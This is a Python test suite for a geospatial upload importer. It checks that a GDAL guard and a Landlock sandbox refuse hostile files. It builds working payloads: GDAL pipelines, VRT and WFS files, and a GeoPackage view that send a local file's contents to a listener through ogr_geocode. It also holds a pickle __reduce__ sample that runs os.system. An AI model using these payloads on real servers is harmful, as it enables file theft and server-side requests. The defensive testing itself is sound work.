"""Uploads that try to make the server read other files or contact an address reach nothing.

Every payload is aimed at a listener on a free loopback port and at a canary file outside the
upload's folder. Each is run against the wizard's upload step, its preview and dry run (with
the stored file swapped for the payload after an innocent upload, as a race would), and
`import_layer`. After each: zero connections to the listener, zero opens of the canary (inotify
watches it), a refusal in Thai and English, and nothing stored.

`test_the_payloads_reach_out_from_a_gdal_without_the_guard` runs the same files through a plain
pyogrio in a fresh interpreter: they do connect there, so the zero counts above can fail.
"""

from __future__ import annotations

import ctypes
import json
import os
import pickle
import socket
import sqlite3
import struct
import subprocess
import sys
import threading
import zipfile
from pathlib import Path

import landlockpy
import pytest

from analysis.gdal_guard import KEPT_DRIVERS, gdal_guard, gdal_guard_status
from geoapp.imports.job import upload_root
from geoapp.models import JobStatus
from layers.imports import ImportLimits, ImportRefused
from layers.imports.sandbox import answer_loads, confine, run_confined
from layers.imports.sources import source_open
from layers.tenancy import all_tenants_scope
from tests.geoapp.test_import_wizard import (
    START,
    _client,
    _dry_run,
    _fresh_upload,
    _upload,
    _upload_id,
    committed,  # noqa: F401 - the fixture, used by name
)
from tests.layers.import_data import (
    cli,
    csv_text,
    database_state,
    inside_points,
    landmarks_frame,
    write_geojson,
    write_gpkg,
)

CODE = "nakhon-si-thammarat"
SECRET = "canary-secret-4711"
_IN_OPEN, _IN_ACCESS, _IN_NONBLOCK = 0x20, 0x01, 0o4000


class Listener:
    """A TCP server on a free loopback port that counts connections and answers 404."""

    def __init__(self) -> None:
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen(64)
        self.port = self.server.getsockname()[1]
        self.requests: list[bytes] = []
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def _serve(self) -> None:
        while True:
            try:
                connection, _address = self.server.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(2)
                try:
                    self.requests.append(connection.recv(4096))
                    connection.sendall(b"HTTP/1.0 404 Not Found\r\nContent-Length: 0\r\n\r\n")
                except OSError:
                    self.requests.append(b"")

    def close(self) -> None:
        self.server.close()


class Canary:
    """A file outside every upload folder; inotify reports any open or read of it."""

    def __init__(self, folder: Path) -> None:
        folder.mkdir(parents=True, exist_ok=True)
        self.path = folder / "canary.csv"
        self.path.write_text(f"secret\n{SECRET}-1\n{SECRET}-2\n")
        self._libc = ctypes.CDLL(None, use_errno=True)
        self._fd = self._libc.inotify_init1(_IN_NONBLOCK)
        assert self._fd >= 0
        watch = self._libc.inotify_add_watch(
            self._fd, str(self.path).encode(), _IN_OPEN | _IN_ACCESS
        )
        assert watch >= 0

    def touches(self) -> int:
        """How many opens and reads of the canary happened since the last call."""
        count = 0
        while True:
            try:
                data = os.read(self._fd, 65536)
            except BlockingIOError:
                return count
            offset = 0
            while offset < len(data):
                _wd, _mask, _cookie, length = struct.unpack_from("iIII", data, offset)
                offset += 16 + length
                count += 1

    def close(self) -> None:
        os.close(self._fd)


@pytest.fixture
def listener():
    served = Listener()
    yield served
    served.close()


@pytest.fixture
def canary(tmp_path):
    watched = Canary(tmp_path / "outside")
    yield watched
    watched.close()


def _geocode_sql(url: str, table: str = "canary") -> str:
    return (
        f"SELECT ogr_geocode(secret, 'raw', 'SERVICE=OSM_NOMINATIM', "
        f"'QUERY_TEMPLATE={url}/?q=%s') AS g FROM {table}"
    )


def _pipeline(command: str) -> str:
    return json.dumps({"type": "gdal_streamed_alg", "command_line": command})


def payloads(url: str, canary: Path) -> dict[str, bytes]:
    """name -> content: each makes an unguarded GDAL read `canary` or contact `url`."""
    sql = _geocode_sql(url)
    pipeline = _pipeline(
        f'gdal vector pipeline ! read {canary} ! sql --dialect SQLITE --sql "{sql}"'
    )
    vrt = (
        f'<OGRVRTDataSource><OGRVRTLayer name="x"><SrcDataSource>{canary}</SrcDataSource>'
        f'<SrcSQL dialect="SQLITE">{sql}</SrcSQL></OGRVRTLayer></OGRVRTDataSource>'
    )
    wfs = (
        '<?xml version="1.0"?>\n<WFS_Capabilities version="1.1.0" '
        'xmlns="http://www.opengis.net/wfs"><OperationsMetadata><Operation name="GetFeature">'
        f'<DCP><HTTP><Get href="{url}/wfs?"/></HTTP></DCP></Operation></OperationsMetadata>'
        "<FeatureTypeList><FeatureType><Name>x</Name></FeatureType></FeatureTypeList>"
        "</WFS_Capabilities>\n"
    )
    return {
        "pipeline.geojson": pipeline.encode(),
        "vsicurl.geojson": _pipeline(
            f"gdal vector pipeline ! read /vsicurl/{url}/x.geojson"
        ).encode(),
        "vrt.csv": f"a,b\n{vrt}\n".encode(),
        "wfs.csv": wfs.encode(),
        "vrt-in.kml": f'<?xml version="1.0"?>\n<kml><Document/></kml>\n{vrt}\n'.encode(),
    }


def _zip(path: Path, name: str, content: bytes) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(name, content)
    return path


def _view_gpkg(path: Path, url: str) -> Path:
    """A GeoPackage whose feature table is a view calling ogr_geocode() on every row."""
    write_gpkg({"pts": landmarks_frame(2)}, path)
    with sqlite3.connect(path) as database:
        database.execute(
            "CREATE VIEW evil AS SELECT fid, geom, ogr_geocode(\"ชื่อ\", 'raw', "
            f"'SERVICE=OSM_NOMINATIM', 'QUERY_TEMPLATE={url}/?q=%s') AS g FROM pts"
        )
        database.execute(
            "INSERT INTO gpkg_contents (table_name, data_type, identifier, srs_id) "
            "VALUES ('evil', 'features', 'evil', 4326)"
        )
        database.execute(
            "INSERT INTO gpkg_geometry_columns VALUES ('evil', 'geom', 'POINT', 4326, 0, 0)"
        )
    return path


def hostile_files(folder: Path, url: str, canary: Path) -> list[Path]:
    """Every payload written under `folder` (the upload's own folder), zipped variants too."""
    folder.mkdir(parents=True, exist_ok=True)
    files = []
    for name, content in payloads(url, canary).items():
        path = folder / name
        path.write_bytes(content)
        files.append(path)
    pipeline = payloads(url, canary)["pipeline.geojson"]
    files.append(_zip(folder / "pipeline.zip", "data.geojson", pipeline))
    files.append(_zip(folder / "vrt-csv.zip", "data.csv", payloads(url, canary)["vrt.csv"]))
    files.append(_view_gpkg(folder / "view.gpkg", url))
    return files


def _quiet(listener: Listener, canary: Canary) -> None:
    assert listener.requests == [], listener.requests[:3]
    assert canary.touches() == 0


def test_gdal_holds_only_the_accepted_drivers_in_every_copy():
    statuses = gdal_guard()

    assert len(statuses) >= 2  # pyogrio's GDAL (shared with GeoDjango) and rasterio's
    for status in statuses:
        assert status.forbidden_registered == (), status
        assert status.http_refused
    import pyogrio

    assert set(pyogrio.list_drivers()) <= KEPT_DRIVERS
    assert not {"VRT", "OGR_VRT", "GDALG", "WFS", "OAPIF", "SQLite", "HTTP"} & set(
        pyogrio.list_drivers()
    )
    assert all(status.ok for status in gdal_guard_status())


@pytest.mark.django_db
def test_a_vrt_named_like_a_geotiff_is_not_opened_by_the_raster_readers(tmp_path, canary):
    """rasterio's GDAL keeps VRT for its warping; a user's .tif still opens as GTiff only."""
    from analysis.flood.hazard import hazard_from_file

    gdal_guard()
    vrt = tmp_path / "depth.tif"
    vrt.write_text(
        '<VRTDataset rasterXSize="1" rasterYSize="1"><VRTRasterBand dataType="Byte" band="1">'
        f"<SimpleSource><SourceFilename>{canary.path}</SourceFilename><SourceBand>1</SourceBand>"
        "</SimpleSource></VRTRasterBand></VRTDataset>"
    )
    canary.touches()

    with pytest.raises(Exception, match=r"not recognized|not a supported|TIFF"):
        hazard_from_file(vrt)
    code, output = cli(CODE, "dataset", vrt, "--dry-run")

    assert code == 1, output
    assert canary.touches() == 0


def test_gdal_http_requests_are_refused_before_any_connection(listener):
    gdal_guard()
    import pyogrio

    for copy in gdal_guard_status():
        library = ctypes.CDLL(copy.path)
        library.CPLHTTPFetch.restype = ctypes.c_void_p
        library.CPLHTTPFetch.argtypes = [ctypes.c_char_p, ctypes.c_void_p]
        result = library.CPLHTTPFetch(f"{listener.url}/fetch".encode(), None)
        assert result
        assert ctypes.c_int.from_address(result).value != 0  # nStatus: failed
    with pytest.raises(Exception, match=r"not recognized|No such file|does not exist|HTTP"):
        pyogrio.read_info(f"/vsicurl/{listener.url}/x.geojson")
    assert listener.requests == []


@pytest.mark.django_db
def test_import_layer_refuses_every_payload_without_reaching_out(tmp_path, listener, canary):
    gdal_guard()
    files = hostile_files(tmp_path / "upload", listener.url, canary.path)
    canary.touches()
    before = database_state()

    for path in files:
        code, output = cli(CODE, "landmarks", path, "--dry-run")
        assert code == 1, (path.name, output)
        assert "Traceback" not in output
        assert "ไม่" in output, output  # Thai first
        assert " / " in output, output  # then English
        code, output = cli(CODE, "landmarks", path)
        assert code == 1, (path.name, output)
        _quiet(listener, canary)

    assert database_state() == before


def test_source_open_refuses_each_payload_in_a_confined_reader(tmp_path, listener, canary):
    limits = ImportLimits()
    files = hostile_files(tmp_path / "upload", listener.url, canary.path)
    canary.touches()

    for path in files:
        with pytest.raises(ImportRefused) as refused, source_open(path, limits=limits):
            pass
        text = str(refused.value)
        assert path.name in text or "data." in text, text
        _quiet(listener, canary)


@pytest.mark.parametrize("name", ["pipeline.geojson", "vsicurl.geojson", "vrt.csv", "wfs.csv"])
@pytest.mark.usefixtures("committed")
def test_the_wizard_refuses_each_payload_at_upload(tmp_path, listener, canary, name):
    path = tmp_path / f"wizard-{name}"
    path.write_bytes(payloads(listener.url, canary.path)[name])
    canary.touches()
    client = _client()
    with all_tenants_scope():
        before = database_state()

    response = _upload(client, path, "landmarks")

    assert response.status_code == 400
    page = response.content.decode()
    assert "ไม่รับไฟล์" in page or "ไม่ใช่ไฟล์" in page, page[:3000]
    _quiet(listener, canary)
    with all_tenants_scope():
        assert database_state() == before


def _swapped(client, tmp_path: Path, suffix: str, content: bytes) -> str:
    """An innocent upload whose stored file is then replaced by `content` (a race)."""
    frame = landmarks_frame(2)
    if suffix == ".csv":
        innocent = tmp_path / "wizard-swap.csv"
        rows = [
            ["วัด " + str(i), "temple", lat, lon] for i, (lon, lat) in enumerate(inside_points(2))
        ]
        innocent.write_text(csv_text(["ชื่อ", "ประเภท", "lat", "lon"], rows))
    else:
        innocent = write_geojson(frame, tmp_path / f"wizard-swap{suffix}")
    upload_id = _upload_id(_upload(client, innocent, "landmarks"))
    upload = _fresh_upload(upload_id)
    stored = upload_root(upload.municipality) / upload.stored_name
    stored.write_bytes(content)
    return upload_id


@pytest.mark.parametrize(
    ("name", "suffix"),
    [("pipeline.geojson", ".geojson"), ("vsicurl.geojson", ".geojson"), ("vrt.csv", ".csv")],
)
@pytest.mark.usefixtures("committed")
def test_a_payload_swapped_in_after_upload_is_refused_by_preview_and_dry_run(
    tmp_path, listener, canary, name, suffix
):
    client = _client()
    content = payloads(listener.url, canary.path)[name]
    upload_id = _swapped(client, tmp_path, suffix, content)
    canary.touches()
    with all_tenants_scope():
        before = database_state()

    # The preview shows what was read at upload time; it must not open the swapped file.
    preview = client.get(f"{START}{upload_id}/")
    assert preview.status_code == 200
    assert SECRET not in preview.content.decode()
    _quiet(listener, canary)

    # The dry run opens the file again, and refuses what it now is.
    job, check = _dry_run(client, upload_id)
    assert job.status == JobStatus.FAILED, job.result
    assert "ไม่รับไฟล์" in check or "ไม่ใช่ไฟล์" in check, check[:3000]
    assert SECRET not in check
    _quiet(listener, canary)
    with all_tenants_scope():
        assert database_state() == before


def _unix_connect(path: Path) -> None:
    with socket.socket(socket.AF_UNIX) as unix:
        unix.connect(str(path))


def attempts(upload: str, canary: str, port: int, server: str) -> dict[str, str]:
    """What a confined reader can do: read inside, read outside, connect by TCP or UNIX socket."""
    outcome = {"inside": (Path(upload) / "data.txt").read_text()}
    for label, action in (
        ("canary", lambda: Path(canary).read_text()),
        ("env", lambda: (Path(__file__).resolve().parents[2] / ".env").read_text()),
        ("connect", lambda: socket.create_connection(("127.0.0.1", port), 2)),
        ("unix socket", lambda: _unix_connect(Path(server))),
    ):
        try:
            action()
            outcome[label] = "allowed"
        except OSError as error:
            outcome[label] = type(error).__name__
    return outcome


@pytest.mark.parametrize("fork_ok", [True, False], ids=["forked", "spawned"])
def test_a_confined_reader_reads_its_folder_only_and_has_no_network(
    tmp_path, listener, canary, fork_ok
):
    upload = tmp_path / "upload"
    upload.mkdir()
    (upload / "data.txt").write_text("inside")
    server_path = canary.path.parent / "server.sock"
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(server_path))
    server.listen(1)
    canary.touches()

    outcome = run_confined(
        attempts,
        str(upload),
        str(canary.path),
        listener.port,
        str(server_path),
        readable=[upload],
        fork_ok=fork_ok,
    )
    server.close()

    assert outcome["inside"] == "inside"
    assert outcome["canary"] != "allowed"
    assert outcome["env"] != "allowed"
    assert outcome["connect"] != "allowed"
    if landlockpy.abi_version() >= 9:  # Landlock controls UNIX sockets by path from ABI 9
        assert outcome["unix socket"] != "allowed"  # as PostgreSQL's socket would be
    assert listener.requests == []
    assert canary.touches() == 0  # Landlock refuses before the open reaches the file


def test_a_reader_answer_cannot_name_a_function_to_call():
    """A reader taken over through a GDAL bug could send any pickle: only data classes pass."""

    class Evil:
        def __reduce__(self):
            return os.system, ("touch /tmp/mueang-pwned",)

    assert answer_loads(pickle.dumps(("ok", {"a": [1, 2.5, b"x"]}))) == (
        "ok",
        {"a": [1, 2.5, b"x"]},
    )
    with pytest.raises(pickle.UnpicklingError, match="may not send"):
        answer_loads(pickle.dumps(("ok", Evil())))
    with pytest.raises(pickle.UnpicklingError):
        answer_loads(pickle.dumps(("ok", subprocess.run)))


def test_confine_reports_what_the_kernel_granted(tmp_path):
    def granted():
        confinement = confine([tmp_path])
        return confinement.network_closed, confinement.files_confined

    network_closed, files_confined = run_confined(granted, readable=[], fork_ok=True)

    # This machine's kernel (6.x) has both; a kernel without them would say False here.
    assert network_closed
    assert files_confined


_UNGUARDED = """
import json, sys, warnings
import pyogrio
for path in json.loads(sys.argv[1]):
    try:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            pyogrio.read_dataframe(path)
    except Exception:
        pass
"""


def test_the_payloads_reach_out_from_a_gdal_without_the_guard(tmp_path, listener, canary):
    """The attack is real: a plain pyogrio, without Mueang's guard, follows these files."""
    folder = tmp_path / "upload"
    hostile_files(folder, listener.url, canary.path)
    reaching = [str(folder / name) for name in ("pipeline.geojson", "vsicurl.geojson", "vrt.csv")]
    canary.touches()
    environment = {k: v for k, v in os.environ.items() if not k.startswith(("GDAL", "CPL_"))}
    environment["GDAL_HTTP_TIMEOUT"] = "2"

    subprocess.run(
        [sys.executable, "-c", _UNGUARDED, json.dumps(reaching)],
        env=environment,
        cwd=folder,
        timeout=120,
        check=True,
        capture_output=True,
    )

    assert len(listener.requests) >= len(reaching)
    assert any(SECRET.encode() in request for request in listener.requests)
    assert canary.touches() > 0


def test_a_reader_that_cannot_be_started_leaves_the_guard_alone(tmp_path, monkeypatch, caplog):
    """A web server whose user cannot start the interpreter (it lives in another user's home)."""
    missing = tmp_path / "no-python"
    monkeypatch.setattr(sys, "executable", str(missing))

    with caplog.at_level("WARNING", logger="layers.imports.sandbox"):
        pid = run_confined(os.getpid, readable=[tmp_path], fork_ok=False)

    assert pid == os.getpid()  # read in this process, behind the GDAL guard
    assert "confined reader not started" in caplog.text
